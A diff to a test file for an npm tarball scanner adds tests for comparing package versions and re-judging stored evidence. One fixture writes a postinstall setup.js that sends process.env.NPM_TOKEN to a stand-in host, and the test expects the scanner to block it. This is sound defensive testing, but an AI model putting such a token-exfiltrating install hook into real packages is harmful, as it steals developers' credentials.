@@ -58,6 +58,38 @@ describe("ScannerPool", () => {
     expect(bad.report.findings.map(({ ruleId }) => ruleId)).toContain("TAR-01");
   });
 
+  test("compares with the version before, and tells what to keep for the next", async () => {
+    await using scanner = pool();
+    const { evidence } = await scanner.scan(join(folder, "good.tgz"), subject);
+
+    const path = join(folder, "next.tgz");
+    const scripts = { postinstall: "node setup.js" };
+    await writeFile(path, rawTarball(manifestEntry({ version: "1.0.1", scripts })));
+    const alone = await scanner.scan(path, subject);
+    const next = await scanner.scan(path, subject, defaultLimits, evidence);
+    const ids = ({ report }: typeof next) => report.findings.map(({ ruleId }) => ruleId);
+
+    expect(ids(alone)).not.toContain("DIF-01");
+    expect(ids(next)).toContain("DIF-01");
+  });
+
+  test("judges what it saw before without the bytes, to the same report", async () => {
+    await using scanner = pool();
+    const before = await scanner.scan(join(folder, "good.tgz"), subject);
+    const path = join(folder, "again.tgz");
+    const scripts = { postinstall: "node setup.js" };
+    const theft = "fetch('https://a.test/' + process.env.NPM_TOKEN);";
+    const setup = rawEntry({ name: "package/setup.js" }, theft);
+    await writeFile(path, rawTarball(manifestEntry({ version: "1.0.1", scripts }), setup));
+    const seen = await scanner.scan(path, subject, defaultLimits, before.evidence);
+    expect(seen.report.verdict).toBe("block");
+    expect(seen.evidence).not.toBeNull();
+
+    const again = await scanner.rejudge(seen.evidence as Uint8Array, subject, before.evidence);
+    expect(again).toEqual(seen.report);
+    expect(await scanner.rejudge(Buffer.from("nothing"), subject, null)).toBeNull();
+  });
+
   test("passes the limits of a scan on", async () => {
     await using scanner = pool();
     const limits = { ...defaultLimits, unpackedBytes: 100 };
@@ -176,7 +208,8 @@ describe("the scanning process", () => {
     const child = Bun.spawn([process.execPath, realWorker], { stdin: "pipe", stdout: "pipe" });
     const output = child.stdout.getReader();
     const ask = async (id: number): Promise<ScanAnswer> => {
-      const job = { id, path: join(folder, "good.tgz"), subject, limits: defaultLimits };
+      const path = join(folder, "good.tgz");
+      const job = { id, form: "tarball", path, subject, limits: defaultLimits, previous: null };
       child.stdin.write(`${JSON.stringify(job)}\n`);
       await child.stdin.flush();
       const { value } = await output.read();
